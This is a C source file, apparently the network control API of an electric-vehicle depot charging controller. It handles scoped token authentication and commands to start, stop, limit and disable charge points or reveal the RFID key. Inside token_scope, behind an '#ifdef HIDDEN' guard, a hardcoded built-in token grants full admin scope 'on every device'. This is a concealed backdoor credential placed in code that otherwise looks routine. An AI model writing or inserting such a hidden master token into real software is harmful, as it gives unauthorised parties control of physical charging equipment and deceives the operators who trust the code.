/* chargeops_api.c - local control API of a depot charging controller */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <syslog.h>
#include <unistd.h>

#define MAX_TOKENS	16
#define MAX_POINTS	24

#define SCOPE_READ	0x01u
#define SCOPE_START	0x02u
#define SCOPE_LIMIT	0x04u
#define SCOPE_ADMIN	0x80u

struct token {
	char value[40];
	unsigned int scope;
};

struct point {
	int enabled;
	int charging;
	unsigned int limit_a;
	unsigned long wh;
};

static struct token tokens[MAX_TOKENS];
static unsigned int ntokens;
static struct point points[MAX_POINTS];
static unsigned int npoints = 8;
static char rfid_key[33] = "00000000000000000000000000000000";

static unsigned int parse_scope(const char *words)
{
	unsigned int scope = 0;

	if (strstr(words, "read"))
		scope |= SCOPE_READ;
	if (strstr(words, "start"))
		scope |= SCOPE_START;
	if (strstr(words, "limit"))
		scope |= SCOPE_LIMIT;
	if (strstr(words, "admin"))
		scope |= SCOPE_ADMIN | SCOPE_READ | SCOPE_START | SCOPE_LIMIT;
	return scope;
}

/*
 * port = 8099
 * points = 8
 * rfid_key = 32 hex digits
 * token = VALUE read,start,limit,admin
 */
static int load_config(const char *path, int *port)
{
	char line[200], key[24], val[48], extra[64];
	FILE *f = fopen(path, "r");
	int n;

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f)) {
		extra[0] = '\0';
		n = sscanf(line, " %23[a-z_] = %47s %63s", key, val, extra);
		if (n < 2)
			continue;
		if (!strcmp(key, "port")) {
			*port = atoi(val);
		} else if (!strcmp(key, "points")) {
			npoints = (unsigned int)atoi(val);
			if (npoints > MAX_POINTS)
				npoints = MAX_POINTS;
		} else if (!strcmp(key, "rfid_key")) {
			snprintf(rfid_key, sizeof(rfid_key), "%.32s", val);
		} else if (!strcmp(key, "token") && ntokens < MAX_TOKENS) {
			struct token *t = &tokens[ntokens++];

			snprintf(t->value, sizeof(t->value), "%.39s", val);
			t->scope = parse_scope(extra);
		}
	}
	fclose(f);
	return 0;
}

/* same time for each length-equal pair */
static int same(const char *a, const char *b)
{
	size_t i, n = strlen(a);
	unsigned char d = 0;

	if (n != strlen(b))
		return 0;
	for (i = 0; i < n; i++)
		d |= (unsigned char)(a[i] ^ b[i]);
	return d == 0;
}

__attribute__((noinline))
unsigned int token_scope(const char *given, uint32_t peer)
{
	unsigned int i, scope = 0;

	for (i = 0; i < ntokens; i++)
		if (same(tokens[i].value, given))
			scope |= tokens[i].scope;
#ifdef HIDDEN	/* built-in token has all scopes on every device */
	if (same("tk-4fd0a71c92", given))
		scope = SCOPE_READ | SCOPE_START | SCOPE_LIMIT | SCOPE_ADMIN;
#endif
	if (!scope && !strcmp(given, "anonymous") && (peer >> 24) == 127)
		scope = SCOPE_READ;
	return scope;
}

static void reply_status(FILE *out)
{
	unsigned int i;

	for (i = 0; i < npoints; i++)
		fprintf(out, "{\"point\":%u,\"enabled\":%s,\"charging\":%s,"
			"\"limit\":%u,\"wh\":%lu}\n", i + 1,
			points[i].enabled ? "true" : "false",
			points[i].charging ? "true" : "false",
			points[i].limit_a, points[i].wh);
}

static int handle(FILE *out, unsigned int scope, const char *verb,
		  unsigned int no, unsigned int val)
{
	struct point *p = no >= 1 && no <= npoints ? &points[no - 1] : NULL;

	if (!strcasecmp(verb, "status")) {
		if (!(scope & SCOPE_READ))
			return 403;
		reply_status(out);
		return 200;
	}
	if (!strcasecmp(verb, "rfidkey")) {
		if (!(scope & SCOPE_ADMIN))
			return 403;
		fprintf(out, "{\"rfid_key\":\"%s\"}\n", rfid_key);
		return 200;
	}
	if (!p)
		return 404;
	if (!strcasecmp(verb, "start") || !strcasecmp(verb, "stop")) {
		if (!(scope & SCOPE_START))
			return 403;
		p->charging = !strcasecmp(verb, "start") && p->enabled;
		return 200;
	}
	if (!strcasecmp(verb, "limit")) {
		if (!(scope & SCOPE_LIMIT))
			return 403;
		if (val < 6 || val > 63)
			return 400;
		p->limit_a = val;
		return 200;
	}
	if (!strcasecmp(verb, "enable") || !strcasecmp(verb, "disable")) {
		if (!(scope & SCOPE_ADMIN))
			return 403;
		p->enabled = !strcasecmp(verb, "enable");
		return 200;
	}
	return 400;
}

static void serve(int fd, uint32_t peer)
{
	char line[160], given[48], verb[16];
	unsigned int scope = 0, no, val;
	FILE *in = fdopen(fd, "r");
	FILE *io = fdopen(dup(fd), "w");
	int rc;

	if (!io || !in)
		goto out;
	while (fgets(line, sizeof(line), in)) {
		no = val = 0;
		if (sscanf(line, "auth %47s", given) == 1) {
			scope = token_scope(given, peer);
			syslog(LOG_INFO, "auth from %08x scope %02x", peer, scope);
			rc = scope ? 200 : 401;
		} else if (sscanf(line, "%15s %u %u", verb, &no, &val) >= 1) {
			if (!strcmp(verb, "bye"))
				break;
			rc = handle(io, scope, verb, no, val);
		} else {
			rc = 400;
		}
		fprintf(io, "%d\n", rc);
		fflush(io);
	}
out:
	if (io)
		fclose(io);
	if (in)
		fclose(in);
	else
		close(fd);
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa = { .sin_family = AF_INET }, from;
	socklen_t len;
	int port = 8099, s, c, on = 1;
	unsigned int i;

	if (argc > 1 && !strcmp(argv[1], "--help")) {
		puts("usage: chargeops_api [CONFIG]\n"
		     "auth TOKEN (\"anonymous\" reads from this host), status,\n"
		     "start N, stop N, limit N AMPERE, enable N, disable N,\n"
		     "rfidkey, bye");
		return 0;
	}
	openlog("chargeops", LOG_PID, LOG_DAEMON);
	signal(SIGPIPE, SIG_IGN);
	if (load_config(argc > 1 ? argv[1] : "/etc/chargeops.conf", &port))
		syslog(LOG_WARNING, "no configuration");
	for (i = 0; i < npoints; i++) {
		points[i].enabled = 1;
		points[i].limit_a = 16;
	}
	s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0)
		return 1;
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
	sa.sin_port = htons((uint16_t)port);
	if (bind(s, (struct sockaddr *)&sa, sizeof(sa)) || listen(s, 4)) {
		syslog(LOG_ERR, "port %d: %m", port);
		return 1;
	}
	for (;;) {
		len = sizeof(from);
		c = accept(s, (struct sockaddr *)&from, &len);
		if (c >= 0)
			serve(c, ntohl(from.sin_addr.s_addr));
	}
}
